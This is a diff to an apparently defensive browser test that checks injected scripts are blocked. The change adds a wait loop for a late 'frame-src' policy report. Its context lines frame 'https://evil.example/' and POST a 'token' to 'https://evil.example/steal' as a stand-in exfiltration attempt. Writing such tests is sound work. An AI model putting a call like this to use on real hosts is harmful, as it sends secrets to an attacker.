@@ -48,6 +48,9 @@ test('runs no script that got into a page: inline, as a handler, as a link, from
       frame.src = 'https://evil.example/';
       document.body.append(frame);
       await fetch('https://evil.example/steal', { method: 'POST', body: 'token' }).catch(() => undefined);
+      // The frame's report comes last, and on a busy machine late; a moment more, for what should not come.
+      for (let waited = 0; waited < 5000 && !seen.some((one) => one.startsWith('frame-src')); waited += 50)
+        await new Promise((resolve) => setTimeout(resolve, 50));
       await new Promise((resolve) => setTimeout(resolve, 100));
       return seen;
     });
